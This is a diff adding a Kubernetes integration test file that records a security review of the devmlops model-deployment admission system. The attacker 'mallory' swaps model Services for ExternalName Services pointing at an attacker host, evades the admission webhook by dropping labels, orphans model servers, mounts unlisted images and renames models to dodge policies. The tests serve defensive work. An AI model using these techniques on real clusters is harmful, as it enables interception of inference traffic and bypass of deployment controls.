@@ -1,0 +1,304 @@
+"""Findings of a security review (attacker: mallory, a namespace editor, docs/threat-model.md).
+
+Each test here that FAILS shows a hole that is open today: the attack succeeds. Tests that pass are safe things
+checked that the suite did not cover yet (marked "safe:" in their docstring).
+"""
+
+from __future__ import annotations
+
+import time
+from typing import Any, cast
+
+import pytest
+from kubernetes import client as k8s
+from kubernetes.client.exceptions import ApiException
+
+from devmlops.adapters.blobsign import sign_blob_with_key
+from devmlops.harness.stack import DevmlopsStack
+from tests.integration.attacks.conftest import (
+    ALLOWED_IMAGES,
+    ROGUE,
+    TOOLBOX,
+    TRITON,
+    KServePods,
+    ModelPods,
+    Served,
+    admitted,
+    as_dict,
+    denied,
+    exemption,
+    installed_exemption,
+    pod,
+    pod_spec,
+    policy_name,
+    serve,
+)
+from tests.integration.support import (
+    GROUP,
+    VERSION,
+    SignedModel,
+    cluster_policy,
+    cyclonedx_sbom,
+    eventually,
+    installed_policy,
+    signed_by_evidence,
+    trusting,
+)
+
+EXTERNAL = "model.mallory.example.com"
+
+
+def _impostor_service(real: dict[str, Any]) -> dict[str, Any]:
+    """A Service with the real one's name, selector and ports, but of type ExternalName: cluster DNS answers the
+    model's Service name with a CNAME to mallory's host; no Pod, no endpoint, nothing the webhook reviews."""
+    keep = ("name", "port", "targetPort", "protocol", "appProtocol")
+    return {
+        "apiVersion": "v1",
+        "kind": "Service",
+        "metadata": {"name": real["metadata"]["name"]},
+        "spec": {
+            "type": "ExternalName",
+            "externalName": EXTERNAL,
+            "selector": dict(real["spec"].get("selector") or {}),
+            "ports": [{k: v for k, v in p.items() if k in keep and v is not None} for p in real["spec"]["ports"]],
+        },
+    }
+
+
+def _swap_service(mallory: k8s.ApiClient, namespace: str, impostor: dict[str, Any], attempts: int = 30) -> int:
+    """Delete the model's Service (deleting is always allowed) and create the impostor under its name, until the
+    impostor wins the race with whichever controller recreates the Service; return the attempt that won."""
+    core = k8s.CoreV1Api(mallory)
+    name = impostor["metadata"]["name"]
+    for attempt in range(1, attempts + 1):
+        try:
+            core.delete_namespaced_service(name, namespace)
+        except ApiException as exc:
+            if exc.status != 404:
+                raise
+        try:
+            core.create_namespaced_service(namespace, cast(Any, impostor))
+            return attempt
+        except ApiException as exc:
+            if exc.status != 409:
+                raise
+        time.sleep(0.05)
+    pytest.fail(f"the impostor Service never won the race in {attempts} attempts")
+
+
+def _service(admin: k8s.ApiClient, namespace: str, name: str) -> dict[str, Any] | None:
+    try:
+        return as_dict(k8s.CoreV1Api(admin).read_namespaced_service(name, namespace))
+    except ApiException as exc:
+        if exc.status == 404:
+            return None
+        raise
+
+
+# -- 1. traffic: the model's own Service name is taken over ------------------------------------------------------
+
+
+def test_kserves_predictor_service_replaced_by_an_external_name_service_stays_mallorys(
+    admin: k8s.ApiClient, mallory: k8s.ApiClient, kserve_pods: KServePods
+) -> None:
+    """Property 1b. KServe's Service reconciler compares only ports and selector of an existing Service
+    (semanticServiceEquals), never its type, externalName or owner. Mallory deletes the predictor Service (always
+    allowed) and creates her own under the same name with the same ports and selector but type ExternalName: the
+    webhook never sees it (no ownerReference), KServe considers it "existed" and leaves it, and
+    fraud-predictor.<ns>.svc (the InferenceService's status.address) resolves to mallory's host."""
+    namespace = kserve_pods.served.namespace
+
+    def predictor_service() -> dict[str, Any] | None:
+        found = _service(admin, namespace, "fraud-predictor")
+        return found if found and (found["metadata"].get("ownerReferences") or []) else None
+
+    real = eventually(predictor_service, timeout=30, what="KServe's predictor Service")
+    _swap_service(mallory, namespace, _impostor_service(real))
+    time.sleep(15)  # KServe reconciles the InferenceService on its owned objects' events and periodically
+    now = _service(admin, namespace, "fraud-predictor") or {}
+    owners = [r.get("kind") for r in now.get("metadata", {}).get("ownerReferences") or []]
+    taken = now.get("spec", {}).get("type") == "ExternalName" or "InferenceService" not in owners
+    assert not taken, (
+        f"the model's predictor Service is mallory's 15 s later: type {now.get('spec', {}).get('type')}, "
+        f"externalName {now.get('spec', {}).get('externalName')!r}, owners {owners}; "
+        "clients of the InferenceService's address reach mallory's host"
+    )
+
+
+def test_the_triton_service_replaced_by_an_external_name_service_is_not_repaired(
+    admin: k8s.ApiClient, mallory: k8s.ApiClient, served_triton: Served
+) -> None:
+    """Property 1b/3. The operator's Triton Service is deleted and recreated by mallory as an ExternalName Service
+    of the same name. The webhook sees only Services a model owns (and mallory's owns nothing); the operator is
+    woken only by Deployment/InferenceService events, so the impostor stays until the next re-check round
+    (--recheck-interval, 300 s by default), and mallory can repeat the swap after each round."""
+    namespace, name = served_triton.namespace, served_triton.child["metadata"]["name"]
+    real = eventually(lambda: _service(admin, namespace, name), timeout=30, what="the operator's Triton Service")
+    _swap_service(mallory, namespace, _impostor_service(real))
+    time.sleep(15)
+    now = _service(admin, namespace, name) or {}
+    owners = [r.get("kind") for r in now.get("metadata", {}).get("ownerReferences") or []]
+    taken = now.get("spec", {}).get("type") == "ExternalName" or "ModelDeployment" not in owners
+    assert not taken, (
+        f"the model's Service is mallory's 15 s later: type {now.get('spec', {}).get('type')}, "
+        f"externalName {now.get('spec', {}).get('externalName')!r}, owners {owners}"
+    )
+
+
+# -- 2. outside enforcement: a child changed under the CEL matchCondition ----------------------------------------
+
+
+def test_outside_enforcement_the_triton_child_is_changed_once_its_labels_are_dropped(
+    admin: k8s.ApiClient, mallory: k8s.ApiClient, stack: DevmlopsStack, plain_namespace: str, attack_model: SignedModel
+) -> None:
+    """Outside enforced namespaces devmlops guarantees "the ModelDeployments it admits and their children". The
+    Deployment webhook there only sees objects matching a CEL matchCondition evaluated on the NEW object (labelled
+    devmlops.io/model-server, or an image named like a model server); it ignores oldObject and ownerReferences. An
+    update that removes the label and sets an image with another name is never sent to the webhook."""
+    namespace = plain_namespace
+    with trusting(
+        admin, stack, namespace, attack_model, policy=policy_name(namespace), allow={"images": list(ALLOWED_IMAGES)}
+    ) as policy:
+        served = serve(admin, namespace, attack_model, policy, runtime={"kind": "triton", "image": TRITON})
+        apps = k8s.AppsV1Api(mallory)
+        name = served.child["metadata"]["name"]
+        rogue = {"spec": {"template": {"spec": {"containers": [{"name": "triton", "image": ROGUE}]}}}}
+        denied(apps.patch_namespaced_deployment, name, namespace, rogue)  # control: with the label, denied
+        # The same change, with the Deployment's own devmlops labels removed (the template keeps the selector label,
+        # so the model's Service still routes to the new Pods; without devmlops.io/model-deployment the operator's
+        # event handler does not see the Deployment either).
+        labels = {"devmlops.io/model-server": None, "devmlops.io/model-deployment": None}
+        denied(apps.patch_namespaced_deployment, name, namespace, {"metadata": {"labels": labels}, **rogue})
+
+
+# -- 3. a model server that outlives its ModelDeployment ---------------------------------------------------------
+
+
+def test_a_model_server_orphaned_from_its_deleted_model_deployment_keeps_running(
+    admin: k8s.ApiClient, mallory: k8s.ApiClient, triton_pods: ModelPods, served_triton: Served
+) -> None:
+    """_same_spec() lets an update remove ownerReferences ("owners may only go away"). Mallory removes the controller
+    reference from the operator's Triton Deployment (metadata only: admitted), then deletes the ModelDeployment
+    (deleting is always allowed). The garbage collector no longer owns the Deployment to it: the Deployment, its
+    ReplicaSet and Pods stay, in an enforced namespace, derived from no ModelDeployment. Nothing re-checks them any
+    more, so a revoked key or policy (onViolation: scaleToZero) never scales them down. (Deleting with
+    propagationPolicy=Orphan orphans the Deployment too, but then the ModelDeployment hangs in deletion.)"""
+    namespace, name = served_triton.namespace, served_triton.child["metadata"]["name"]
+    apps = k8s.AppsV1Api(mallory)
+    admitted(apps.patch_namespaced_deployment, name, namespace, [{"op": "remove", "path": "/metadata/ownerReferences"}])
+    custom = k8s.CustomObjectsApi(mallory)
+    admitted(custom.delete_namespaced_custom_object, GROUP, VERSION, namespace, "modeldeployments", "fraud")
+
+    def gone() -> bool:
+        try:
+            custom.get_namespaced_custom_object(GROUP, VERSION, namespace, "modeldeployments", "fraud")
+        except ApiException as exc:
+            return bool(exc.status == 404)
+        return False
+
+    eventually(gone, timeout=30, what="the ModelDeployment deleted")
+    time.sleep(10)
+    core = k8s.CoreV1Api(admin)
+    try:
+        deployment = as_dict(k8s.AppsV1Api(admin).read_namespaced_deployment(name, namespace))
+    except ApiException as exc:
+        if exc.status != 404:
+            raise
+        return
+    listed = [as_dict(p) for p in core.list_namespaced_pod(namespace).items]
+    pods = [p["metadata"]["name"] for p in listed if not p["metadata"].get("deletionTimestamp")]
+    assert not deployment["spec"].get("replicas") or not pods, (
+        f"ModelDeployment fraud is gone, yet its model server runs on: Deployment {name} with "
+        f"{deployment['spec'].get('replicas')} replica(s), owners {deployment['metadata'].get('ownerReferences')}, "
+        f"Pods {pods}"
+    )
+
+
+# -- 4. exemptions: an image the Pod pulls that is not one of the exemption's images -----------------------------
+
+
+def test_an_exempt_pod_that_mounts_an_unlisted_image_as_a_volume_is_denied(
+    admin: k8s.ApiClient, mallory: k8s.ApiClient, enforced_namespace: str
+) -> None:
+    """An exemption admits a Pod only when every image of the Pod is one of its pinned images. An ``image``
+    volume (OCI VolumeSource) makes the kubelet pull another image, by tag, and mount its content: pod_images()
+    reads containers, init and ephemeral containers only."""
+    core = k8s.CoreV1Api(mallory)
+    body = exemption(f"atk-{enforced_namespace}", [enforced_namespace], images=[TOOLBOX], service_accounts=["toolbox"])
+    with installed_exemption(admin, body):
+        spec = pod_spec(TOOLBOX, service_account="toolbox")
+        spec["volumes"] = [{"name": "weights", "image": {"reference": "registry.example.com/mallory/weights:latest"}}]
+        spec["containers"][0]["volumeMounts"] = [{"name": "weights", "mountPath": "/weights"}]
+        try:
+            created = as_dict(core.create_namespaced_pod(enforced_namespace, cast(Any, pod("toolbox-weights", spec))))
+        except ApiException as exc:
+            if exc.status == 403 and "devmlops" in (exc.body or ""):
+                return
+            raise
+        volumes = created["spec"].get("volumes") or []
+        if not any("image" in v for v in volumes):
+            pytest.skip("this API server drops image volumes (ImageVolume feature gate off)")
+        pytest.fail(f"admitted, but devmlops must deny it: an exempt Pod pulls and mounts {volumes}", pytrace=False)
+
+
+# -- 5. selection and binding by an attacker-chosen name ---------------------------------------------------------
+
+
+def _create(client: k8s.ApiClient, namespace: str, doc: dict[str, Any]) -> Any:
+    """Create the ModelDeployment for real (so the webhook's audit line is quoted if it is admitted)."""
+    return k8s.CustomObjectsApi(client).create_namespaced_custom_object(
+        GROUP, VERSION, namespace, "modeldeployments", doc
+    )
+
+
+def test_a_model_renamed_in_its_spec_escapes_the_policy_that_selects_it_by_name(
+    admin: k8s.ApiClient,
+    mallory: k8s.ApiClient,
+    stack: DevmlopsStack,
+    enforced_namespace: str,
+    attack_model: SignedModel,
+    trusted: dict[str, Any],
+) -> None:
+    """A ClusterModelPolicy selects models by spec.model.name globs; that name is whatever the ModelDeployment says,
+    bound to nothing signed (the OMS bundle names the model 'fraud'). With a second policy selecting the namespace
+    (here the suite's usual one), the same signed bytes under another name skip the stricter policy."""
+    namespace = enforced_namespace
+    strict = cluster_policy(f"strict-{namespace}"[:63], namespace, attack_model.key.public_pem, sbom={"required": True})
+    strict["spec"]["selector"]["models"] = ["fraud"]
+    with installed_policy(admin, stack, strict):
+        doc = signed_by_evidence("fraud", attack_model)
+        doc["metadata"]["labels"] = {"devmlops.io/eu-ai-act-risk": "minimal"}
+        assert "sbom" in denied(_create, mallory, namespace, doc).lower()  # control: the fraud model needs one
+        doc["spec"]["model"]["name"] = "scratchpad"  # same bundle, same digest, same bytes
+        denied(_create, mallory, namespace, doc)
+
+
+def test_an_sbom_of_another_model_binds_by_the_name_the_model_deployment_gives_itself(
+    admin: k8s.ApiClient,
+    mallory: k8s.ApiClient,
+    stack: DevmlopsStack,
+    enforced_namespace: str,
+    attack_model: SignedModel,
+) -> None:
+    """With sbom.allowNameBinding, the SBOM gate accepts a model component named like spec.model.name, which the
+    requester chooses: a signed SBOM of any other model (its license, model card, stated risk tier) is made to
+    describe the signed bytes by naming the ModelDeployment after that model."""
+    namespace = enforced_namespace
+    other_sbom = cyclonedx_sbom("benign", "sha256:" + "1" * 64, license_id="Apache-2.0")
+    other_signature = sign_blob_with_key(other_sbom.encode(), attack_model.key.private.read_bytes())
+    sbom_rules = {"required": True, "requireSignature": True, "allowNameBinding": True}
+    with trusting(
+        admin,
+        stack,
+        namespace,
+        attack_model,
+        policy=policy_name(namespace),
+        allow={"images": list(ALLOWED_IMAGES)},
+        sbom=sbom_rules,
+    ):
+        sbom = {"format": "cyclonedx", "document": {"inline": other_sbom}, "signature": {"inline": other_signature}}
+        doc = signed_by_evidence("fraud", attack_model, sbom=sbom)
+        doc["metadata"]["labels"] = {"devmlops.io/eu-ai-act-risk": "minimal"}
+        assert "binding" in denied(_create, mallory, namespace, doc).lower()  # control: under its own name
+        doc["spec"]["model"]["name"] = "benign"
+        denied(_create, mallory, namespace, doc)
